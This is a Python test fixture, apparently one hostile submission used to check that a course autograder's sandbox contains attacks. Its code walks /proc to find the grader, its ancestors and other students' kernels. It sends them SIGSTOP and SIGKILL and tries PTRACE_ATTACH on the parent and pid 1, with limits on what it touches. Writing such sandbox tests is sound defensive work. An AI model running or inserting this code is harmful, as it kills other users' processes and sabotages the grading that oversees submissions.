"""A correct f, and in the same cell an attack on every other process the kernel can see: it
sends SIGSTOP and then SIGKILL to each of them (its parent, the zygote it was forked from, the
grader, the workers, other students' kernels), tries PTRACE_ATTACH (through ctypes) on its
parent and on pid 1, and kills its parent and ancestors (found through /proc/<pid>/status).
What must happen: inside its own PID namespace it sees only its own sandbox (the zygote there is
pid 1 and ignores the signals), so grading goes on, every other student keeps their score, and
this submission scores full marks.

Bounded, so that a missing sandbox cannot harm the machine: when it can see more than 60
processes (it is then not in a small private PID namespace) it touches only processes whose
working folder or command line is inside the course directory it found above its own folder,
and its own ancestors up to the grader (`python -m course grade` or pytest), never a shell or
anything else of the machine; when it sees more than 60 processes and no course directory, it
touches nothing."""

LOSES = []

# %% f
import ctypes
import os
import pathlib
import signal


def _status_ppid(pid):
    with open(f"/proc/{pid}/status") as status:
        return int(next(line.split()[1] for line in status if line.startswith("PPid:")))


def _cmdline(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as cmd:
        return cmd.read().replace(b"\0", b" ").decode(errors="replace")


def _targets():
    me = os.getpid()
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me)
    here = pathlib.Path(os.getcwd()).resolve()
    root = next((d for d in (here, *here.parents) if (d / "nbgrader_config.py").is_file()
                 or (d / "gradebook.db").is_file()), None)
    if len(pids) <= 60:  # a private PID namespace: everything in it is this run's
        return pids, len(pids)
    if root is None:
        return [], len(pids)
    chosen = []
    for pid in pids:
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            if cwd.startswith(str(root)) or str(root) in _cmdline(pid):
                chosen.append(pid)
        except OSError:
            pass
    pid = me
    for _ in range(8):  # ancestors: python processes up to and including the grader
        try:
            pid = _status_ppid(pid)
            cmd = _cmdline(pid)
        except (OSError, StopIteration, ValueError):
            break
        if pid <= 1 or "python" not in cmd and "pytest" not in cmd:
            break
        chosen.append(pid)
        if "pytest" in cmd or ("course" in cmd and "grade" in cmd):
            break
    return sorted(set(chosen) - {me}), len(pids)


def _kill_everything():
    targets, seen = _targets()
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    hits = 0
    for pid in targets:
        try:
            os.kill(pid, signal.SIGSTOP)
            hits += 1
        except OSError:
            pass
    for pid in {os.getppid(), 1} & set(targets):
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            hits += 1
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    for pid in targets:
        try:
            os.kill(pid, signal.SIGKILL)
            hits += 1
        except OSError:
            pass
    if os.getppid() in targets:
        try:
            os.kill(os.getppid(), signal.SIGKILL)
        except OSError:
            pass
    return seen, len(targets), hits


try:
    print("saw %d processes, aimed at %d, %d signals or attaches succeeded" % _kill_everything())
except Exception as error:
    print("blocked:", type(error).__name__)


def f(x):
    return (x - 0.5) ** 2
